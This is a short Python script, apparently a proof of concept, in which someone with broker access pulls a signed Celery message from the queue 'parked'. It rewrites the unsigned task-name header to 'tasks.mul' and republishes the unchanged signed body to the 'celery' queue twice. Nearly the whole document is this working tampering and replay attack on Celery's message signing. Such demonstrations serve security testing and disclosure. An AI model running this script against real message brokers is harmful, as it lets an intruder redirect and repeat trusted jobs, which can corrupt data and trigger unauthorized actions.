"""Someone with access to the broker: take a signed message from the queue `parked` and put it
into `celery` twice, under another task's name. The signed body is left as it was."""

import sys

from kombu import Queue

from tasks import app

with app.connection_for_write() as conn:
    message = Queue("parked").bind(conn.default_channel).get(no_ack=True)
    if message is None:
        sys.exit("no message in the queue parked")
    headers = dict(message.headers, task="tasks.mul")  # the headers are not signed
    print("task:", message.headers["task"], "->", headers["task"])
    for _ in range(2):  # the same message again: nothing in it says it was already run
        conn.Producer().publish(
            message.body,  # the signed body, unchanged
            routing_key="celery",
            headers=headers,
            content_type=message.content_type,
            content_encoding=message.content_encoding,
        )
    print("published 2 times")
